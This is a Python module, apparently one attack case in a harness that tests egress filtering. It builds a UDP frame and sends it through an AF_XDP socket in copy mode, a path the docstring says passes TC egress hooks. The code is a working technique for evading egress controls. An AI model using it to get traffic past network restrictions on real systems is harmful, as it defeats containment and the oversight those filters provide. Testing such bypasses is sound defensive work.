"""A datagram through an AF_XDP socket in copy mode, which passes TC egress by (if_xdp.h)."""

from __future__ import annotations

import ctypes
import errno
import mmap
import os
import socket
import struct
import time

from attacks.frames import ethernet, udp4
from attacks.target import Impossible, Target

AF_XDP, SOL_XDP = 44, 283
XDP_MMAP_OFFSETS, XDP_TX_RING, XDP_UMEM_REG, XDP_FILL, XDP_COMPLETION = 1, 3, 4, 5, 6
XDP_COPY = 2
PGOFF_TX = 0x80000000
FRAME, FRAMES, RING = 2048, 16, 16
OFFSETS = struct.Struct("=16Q")  # producer, consumer, desc, flags of rx, tx, fill, completion
LACKING = {errno.EAFNOSUPPORT, errno.EPERM, errno.EOPNOTSUPP, errno.ENOPROTOOPT, errno.EINVAL}


def main(target: Target) -> None:
    """Put one frame in the ring and kick the kernel.

    Raises:
        Impossible: the kernel refuses such a socket.
    """
    packet = udp4(target.source, target.address, target.port, target.payload)
    frame = ethernet(target.mac, target.next_hop(), packet)
    try:
        out = socket.socket(AF_XDP, socket.SOCK_RAW, 0)
    except OSError as error:
        raise Impossible(f"AF_XDP: {error.strerror}") from error
    with out, mmap.mmap(-1, FRAME * FRAMES) as memory:
        memory[: len(frame)] = frame
        try:
            send(out, memory, len(frame), target.device)
        except OSError as error:
            if error.errno in LACKING:
                raise Impossible(f"AF_XDP in copy mode: {error.strerror}") from error
            raise


def send(out: socket.socket, memory: mmap.mmap, size: int, device: str) -> None:
    """Register the memory, bind to queue 0, send its first `size` bytes.

    Raises:
        OSError: the kernel refuses a step.
    """
    view = (ctypes.c_char * len(memory)).from_buffer(memory)
    area = struct.pack("=QQIIII", ctypes.addressof(view), len(memory), FRAME, 0, 0, 0)
    out.setsockopt(SOL_XDP, XDP_UMEM_REG, area)
    for ring in (XDP_FILL, XDP_COMPLETION, XDP_TX_RING):
        out.setsockopt(SOL_XDP, ring, RING)
    offsets = OFFSETS.unpack(out.getsockopt(SOL_XDP, XDP_MMAP_OFFSETS, OFFSETS.size))
    producer, _, descriptors, _ = offsets[4:8]
    libc = ctypes.CDLL(None, use_errno=True)
    address = struct.pack("=HHIII", AF_XDP, XDP_COPY, socket.if_nametoindex(device), 0, 0)
    if libc.bind(out.fileno(), address, len(address)):
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    length = descriptors + RING * 16
    with mmap.mmap(out.fileno(), length, mmap.MAP_SHARED, offset=PGOFF_TX) as ring_memory:
        ring_memory[descriptors : descriptors + 16] = struct.pack("=QII", 0, size, 0)
        ring_memory[producer : producer + 4] = struct.pack("=I", 1)
        kick(libc, out)
        time.sleep(0.05)  # the frame is the kernel's until it is on its way
    del view


def kick(libc: ctypes.CDLL, out: socket.socket) -> None:
    """Have the kernel send what is in the ring; that the network refuses is no error here."""
    libc.sendto(out.fileno(), None, 0, socket.MSG_DONTWAIT, None, 0)
